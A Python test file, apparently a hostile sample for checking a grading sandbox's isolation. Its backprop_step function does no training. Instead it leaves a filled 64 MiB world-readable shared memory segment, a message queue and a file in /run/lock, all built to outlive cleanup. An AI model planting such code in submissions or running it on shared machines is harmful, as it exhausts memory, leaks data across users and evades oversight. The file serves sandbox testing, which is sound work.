"""Leave kernel objects that outlive every process of the child's user: a System V shared memory
segment (64 MiB, filled: memory the machine keeps until reboot), a message queue and a file in
/run/lock (world-writable, and not among the temp folders the sweep cleans).

At the user level there is no IPC namespace, so the segment stays after the sweep, readable by
any later child (key and mode 0666) and holding its memory for the rest of the run: enough of
them starve a class of memory. Inside bubblewrap (--unshare-ipc, its own /run) they die with it.
"""
import ctypes
import os

IPC_CREAT, KEY = 0o1000, 0x6E6E68   # a fixed key: a later child (or the test) finds it


def backprop_step(x, target, learnrate, weights_input_hidden, weights_hidden_output):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.restype = ctypes.c_int
    libc.shmat.restype = ctypes.c_void_p
    size = 64 * 2**20
    shmid = libc.shmget(KEY, ctypes.c_size_t(size), IPC_CREAT | 0o666)
    if shmid >= 0:
        address = libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 0x41, size)   # the memory is used, not only promised
            ctypes.memmove(address, b"__TOKEN__", 9)
            libc.shmdt(ctypes.c_void_p(address))
    libc.msgget(KEY, IPC_CREAT | 0o666)
    try:
        with open("/run/lock/__TOKEN__", "w") as handle:
            handle.write("left behind by a student\n")
    except OSError:
        pass
    return {"error": None}
